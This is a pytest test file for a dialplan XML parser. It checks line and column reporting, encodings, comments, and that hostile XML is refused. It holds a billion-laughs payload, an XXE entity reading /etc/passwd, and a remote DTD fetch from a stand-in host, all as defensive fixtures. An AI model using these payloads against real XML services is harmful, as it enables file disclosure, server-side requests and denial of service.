"""Safe parsing: positions, comments, encodings, and refusal of hostile documents."""

from __future__ import annotations

import time

import pytest

from cftools import CftoolsError
from cftools.dialplan import (
    MAX_SIZE,
    Comment,
    DialplanParseError,
    DialplanTypeError,
    parse,
    validate,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<dialplan><play type="tts">&lol9;</play></dialplan>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE dialplan [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<dialplan><play type="tts">&secret;</play></dialplan>"""

XXE_NETWORK = b"""<!DOCTYPE dialplan [
  <!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]>
<dialplan/>"""


def test_billion_laughs_is_refused_quickly_without_expansion() -> None:
    start = time.perf_counter()
    with pytest.raises(DialplanParseError) as exc:
        parse(BILLION_LAUGHS)
    assert time.perf_counter() - start < 1.0
    assert exc.value.findings[0].code == "CF101"
    assert "entities" in str(exc.value)
    assert "amplification" in str(exc.value) or "lol9" in str(exc.value)
    assert validate(BILLION_LAUGHS).errors[0].code == "CF101"


def test_external_entities_are_refused_and_never_read() -> None:
    with pytest.raises(DialplanParseError) as exc:
        parse(XXE)
    assert exc.value.findings[0].code == "CF101"
    assert "root:" not in str(exc.value)
    report = validate(XXE_NETWORK)
    assert not report.ok
    assert report.errors[0].code in ("CF100", "CF101")


def test_doctype_without_entities_is_harmless() -> None:
    plan = parse('<!DOCTYPE dialplan><dialplan name="Root"><hangup/></dialplan>')
    assert plan.name == "Root"


def test_size_limit() -> None:
    big = "<dialplan>" + "<!-- x -->" * (MAX_SIZE // 10) + "</dialplan>"
    with pytest.raises(DialplanParseError, match="over the"):
        parse(big)


@pytest.mark.parametrize(
    ("xml", "line", "column", "words"),
    [
        ("<dialplan>\n  <play>x</plya>\n</dialplan>", 2, 17, "mismatch"),
        ("<dialplan>\n<get>a?x=1&y=2</get></dialplan>", 2, 13, "EntityRef"),
        ("", 1, 1, "empty"),
        ("<dialplan a='1' a='2'/>", 1, 22, "redefined"),
    ],
)
def test_malformed_xml_reports_line_and_column(
    xml: str, line: int, column: int, words: str
) -> None:
    with pytest.raises(DialplanParseError) as exc:
        parse(xml)
    assert exc.value.findings[0].code == "CF100"
    assert (exc.value.line, exc.value.column) == (line, column)
    assert words in str(exc.value)
    assert f"line {line}, column {column}" in str(exc.value)
    assert isinstance(exc.value, ValueError)


def test_positions_point_at_the_opening_bracket() -> None:
    xml = (
        '<?xml version="1.0"?>\n'
        "<!-- a <fake> tag in a comment -->\n"
        '<dialplan name="Root">\n'
        '\t<menu name="m"\n'
        '\t      timeout="5000"><play type="tts"><![CDATA[<not a tag>]]></play>\n'
        '  <keypress pressed="1"><hangup/></keypress></menu>\n'
        "</dialplan>"
    )
    plan = parse(xml)
    found = [(e.tag, e.line, e.column) for e in plan.iter()]
    assert found == [
        ("dialplan", 3, 1),
        ("menu", 4, 2),
        ("play", 5, 23),
        ("keypress", 6, 3),
        ("hangup", 6, 25),
    ]
    assert plan.comments_before[0].line == 2
    assert plan.elements[0].elements[0].text == "<not a tag>"


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_positions_count_every_xml_line_ending(newline: str) -> None:
    # XML ends a line at LF, CRLF or a lone CR (old Mac editors); all count once.
    xml = newline.join(
        ['<?xml version="1.0"?>', "<dialplan>", '\t<play type="tts">a</play>', "  <hangup/>"]
    )
    plan = parse(xml + newline + "</dialplan>")
    assert [(e.tag, e.line, e.column) for e in plan.iter()] == [
        ("dialplan", 2, 1),
        ("play", 3, 2),
        ("hangup", 4, 3),
    ]
    found = validate((xml + "<goto>x</goto></dialplan>").encode())
    assert [(f.code, f.line, f.column) for f in found] == [("CF400", 4, 12), ("CF403", 4, 12)]


def test_excessive_nesting_is_refused_in_our_words() -> None:
    depth = 10_000
    with pytest.raises(DialplanParseError) as exc:
        parse("<dialplan>" + '<if expr="1">' * depth + "</if>" * depth + "</dialplan>")
    message = str(exc.value)
    assert "nested more than 256 deep" in message and "XML_PARSE_HUGE" not in message


def test_positions_with_bytes_in_a_declared_encoding() -> None:
    xml = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        '<dialplan><play type="tts">é</play> <hangup/></dialplan>'
    )
    plan = parse(xml.encode("latin-1"))
    assert plan.elements[0].text == "é"
    assert (plan.elements[1].line, plan.elements[1].column) == (2, 37)


@pytest.mark.parametrize(
    "source",
    [
        "\ufeff<dialplan>\n <hangup/></dialplan>",
        "\ufeff<dialplan>\n <hangup/></dialplan>".encode(),
        "<dialplan>\n <hangup/></dialplan>".encode("utf-16"),  # a mark, no declaration
        "<dialplan>\n <hangup/></dialplan>".encode("utf-32"),
    ],
)
def test_a_byte_order_mark_takes_no_column(source: str | bytes) -> None:
    # Regressions: the mark counted as column 1 of line 1, and a UTF-16 document without
    # a declaration (which lxml reports as UTF-8) was decoded as UTF-8, so every column
    # after it was wrong.
    plan = parse(source)
    assert [(e.tag, e.line, e.column) for e in plan.iter()] == [
        ("dialplan", 1, 1),
        ("hangup", 2, 2),
    ]


def test_messages_from_the_xml_parser_end_without_a_newline() -> None:
    with pytest.raises(DialplanParseError) as exc:
        parse('<dialplan><play type="tts">a\x00</play></dialplan>')
    assert exc.value.findings[0].message.endswith("out of allowed range")


def test_str_input_ignores_the_declared_encoding() -> None:
    plan = parse('<?xml version="1.0" encoding="ISO-8859-1"?><dialplan><wait>2</wait></dialplan>')
    assert plan.elements[0].value == "2"


def test_comments_are_kept_everywhere() -> None:
    plan = parse("<!--a--><dialplan><!--b--><hangup/><!--c--></dialplan><!--d-->")
    assert plan.comments_before == [Comment("a")]
    assert plan.children[0] == Comment("b")
    assert plan.children[2] == Comment("c")
    assert plan.comments_after == [Comment("d")]
    assert parse(plan.to_xml()) == plan


def test_text_is_raw_for_values_and_trimmed_for_mixed_content() -> None:
    plan = parse("<dialplan>\n  <transfer>\n    15550001111\n  </transfer>\n</dialplan>")
    transfer = plan.elements[0]
    assert transfer.text == "\n    15550001111\n  "
    assert transfer.value == "15550001111"
    assert plan.text == ""
    mixed = parse("<dialplan> stray <hangup/> text </dialplan>")
    assert mixed.text == "stray  text"


def test_a_wrong_root_still_parses_for_validation() -> None:
    plan = parse("<Response><Say>hi</Say></Response>")
    assert plan.tag == "Response"
    assert validate(plan).errors[0].code == "CF102"


def test_processing_instructions_are_dropped() -> None:
    plan = parse("<dialplan><?php echo 1; ?><hangup/></dialplan>")
    assert [e.tag for e in plan.iter()] == ["dialplan", "hangup"]
    assert plan.elements[0].column == 27


@pytest.mark.parametrize("value", [42, None, bytearray(b"<dialplan/>"), ["<dialplan/>"]])
def test_parse_rejects_other_types(value: object) -> None:
    # A regression: a plain TypeError, which `except CftoolsError` did not catch.
    with pytest.raises(DialplanTypeError, match=r"^parse\(\) takes str or bytes, not ") as exc:
        parse(value)  # type: ignore[arg-type]
    assert isinstance(exc.value, TypeError) and isinstance(exc.value, CftoolsError)
    assert exc.value.findings[0].code == "CF100"
    assert validate(value).errors[0].code == "CF100"  # type: ignore[arg-type]


def test_built_elements_have_no_position_until_set() -> None:
    plan = parse("<dialplan><hangup/></dialplan>")
    hangup = plan.elements[0]
    hangup.line = 9
    assert (hangup.line, hangup.column) == (9, 11)
    assert plan.line == 1


def test_a_default_namespace_is_kept_aside_and_written_back() -> None:
    xml = '<dialplan xmlns="urn:example"><menu><play type="tts">Hi</play></menu></dialplan>'
    plan = parse(xml)
    assert plan.namespace == "urn:example"
    assert [e.tag for e in plan.iter()] == ["dialplan", "menu", "play"]
    out = plan.to_xml(pretty=False)
    assert out == xml
    assert parse(out) == plan
    assert parse("<dialplan><hangup/></dialplan>") != parse(
        '<dialplan xmlns="u"><hangup/></dialplan>'
    )


def test_an_element_in_another_namespace_keeps_it_when_written_back() -> None:
    # A regression: to_xml() put it in the root's default namespace too and failed with
    # "Invalid tag name '{urn:x}{urn:other}foo'", so fmt refused a readable document.
    xml = '<dialplan xmlns="urn:x"><hangup/><x:foo xmlns:x="urn:other"/></dialplan>'
    plan = parse(xml)
    assert [e.tag for e in plan.iter()] == ["dialplan", "hangup", "{urn:other}foo"]
    assert parse(plan.to_xml()) == plan
    [unknown] = [f for f in validate(xml) if f.code == "CF218"]
    assert unknown.message.startswith("<foo> is in the XML namespace 'urn:other', which")


@pytest.mark.parametrize(
    ("body", "hint"),
    [
        ("<get>https://x.example/a?b=1&c=2</get>", "a raw '&' must be written &amp;"),
        ('<if expr="${a} && ${b}"><hangup/></if>', "a raw '&' must be written &amp;"),
        ('<play type="tts">Hello&nbsp;there</play>', "(&#160; for &nbsp;)"),
        ('<if expr="${n} < 3"><hangup/></if>', "write '<' as &lt; in an attribute"),
        ('<play type="tts">1 < 2</play>', "a '<' that starts no tag must be written &lt;"),
        ("<play type=tts>x</play>", 'put the attribute value in quotes (type="tts")'),
        ("<!-- a -- b -->", "'--' is not allowed inside a comment"),
    ],
)
def test_the_usual_xml_mistakes_say_how_to_fix_them(body: str, hint: str) -> None:
    # libxml2's words alone ("xmlParseEntityRef: no name") do not tell a CallFire user
    # that the '&' in a URL must be written &amp;.
    with pytest.raises(DialplanParseError) as exc:
        parse(f'<dialplan name="Root">\n  {body}\n</dialplan>')
    assert hint in exc.value.findings[0].message
    assert exc.value.line == 2


def test_undecodable_input_says_what_is_wrong_with_it() -> None:
    with pytest.raises(DialplanParseError, match="lone surrogate"):
        parse("<dialplan>\ud800</dialplan>")
    with pytest.raises(DialplanParseError, match="save it as UTF-8 or declare its encoding"):
        parse("<dialplan>é</dialplan>".encode("latin-1"))
    with pytest.raises(DialplanParseError, match="blank lines included"):
        parse('\n<?xml version="1.0"?><dialplan/>')


def test_positions_skip_a_doctype_whose_subset_holds_brackets() -> None:
    # A regression: the scan ended the internal subset at the first "]", even one in a
    # comment or a quoted default value, and every position after it was wrong.
    xml = (
        '<?xml version="1.0"?>\n'
        "<!DOCTYPE dialplan [\n"
        "  <!-- a <fake> tag and a ] bracket; it's a comment -->\n"
        '  <!ATTLIST play voice CDATA "x]y>">\n'
        "]>\n"
        '<dialplan>\n  <play type="tts">x</play>\n</dialplan>'
    )
    assert [(e.tag, e.line, e.column) for e in parse(xml).iter()] == [
        ("dialplan", 6, 1),
        ("play", 7, 3),
    ]
    system = '<!DOCTYPE dialplan SYSTEM "a>b.dtd"><dialplan>\n  <hangup/></dialplan>'
    assert [(e.line, e.column) for e in parse(system).iter()] == [(1, 37), (2, 3)]


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_utf8_bytes_labelled_utf16_are_read_as_the_text_they_are(bom: bytes) -> None:
    # A regression: .NET's XmlSerializer writes encoding="utf-16" into a string that is
    # then saved or sent as UTF-8. CallFire receives the dialplan as text and never
    # reads the label, but bytes gave a false CF100 error ("Blank needed here").
    xml = (
        '<?xml version="1.0" encoding="utf-16"?>\n<dialplan><play type="tts">café</play></dialplan>'
    )
    plan = parse(bom + xml.encode("utf-8"))
    assert plan == parse(xml)
    assert (plan.elements[0].text, plan.elements[0].line, plan.elements[0].column) == (
        "café",
        2,
        11,
    )
    assert validate(bom + xml.encode("utf-8")).findings == ()
    real = xml.replace("utf-16", "UTF-16").encode("utf-16")  # what the label says
    assert parse(real) == plan


# -- Issue 10 (7): entities are refused whatever the encoding, and nothing is fetched ----

UNUSED_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE dialplan [<!ENTITY x "y">]>
<dialplan><hangup/></dialplan>"""


def _encoded(document: bytes, codec: str, label: str | None) -> bytes:
    text = document.decode()
    if label is not None:
        text = text.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{label}"?>')
    return text.encode(codec)


ENCODINGS = [
    ("utf-8", None),
    ("utf-8-sig", "UTF-8"),
    ("utf-16", "UTF-16"),  # with a byte-order mark
    ("utf-16-le", "UTF-16LE"),  # without one
    ("utf-16-be", "UTF-16BE"),
    ("utf-16-le", "UTF-16"),
    ("utf-32", "UTF-32"),
    ("utf-32-le", "UTF-32LE"),
    ("utf-32-be", "UTF-32BE"),
    ("latin-1", "ISO-8859-1"),
    ("cp1252", "windows-1252"),
]


@pytest.mark.parametrize(("codec", "label"), ENCODINGS, ids=[f"{c}-{lb}" for c, lb in ENCODINGS])
@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, XXE, UNUSED_ENTITY], ids=["laughs", "xxe", "unused"]
)
def test_entities_are_refused_in_every_encoding(
    document: bytes, codec: str, label: str | None
) -> None:
    data = _encoded(document, codec, label)
    report = validate(data)
    assert [f.code for f in report] == ["CF101"], [f.format() for f in report]
    assert "root:" not in report.findings[0].message


def test_an_entity_from_an_external_dtd_is_refused_not_read_as_a_tag() -> None:
    # A regression: the unresolved reference became an element named after lxml's
    # Entity factory ("<<cyfunction Entity ...>> is not a tag").
    for data in (
        b'<!DOCTYPE d SYSTEM "x.dtd"><dialplan><play type="tts">&foo;</play></dialplan>',
        '<!DOCTYPE d SYSTEM "x.dtd"><dialplan>&foo;</dialplan>'.encode("utf-16"),
    ):
        report = validate(data)
        assert [f.code for f in report] == ["CF101"]
        assert "&foo;" in report.findings[0].message


def test_parsing_never_touches_the_network() -> None:
    import http.server
    import threading

    requests: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'<!ENTITY x "fetched">')

        def log_message(self, format: str, *args: object) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}"
        documents = [
            f'<!DOCTYPE d SYSTEM "{url}/d.dtd"><dialplan><hangup/></dialplan>',
            f'<!DOCTYPE d [<!ENTITY % r SYSTEM "{url}/r.dtd"> %r;]><dialplan/>',
            f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/x">]><dialplan>&x;</dialplan>',
        ]
        for document in documents:
            for data in (document, document.encode("utf-16")):
                report = validate(data)
                assert "fetched" not in str([f.message for f in report])
    finally:
        server.shutdown()
        server.server_close()
    assert requests == []
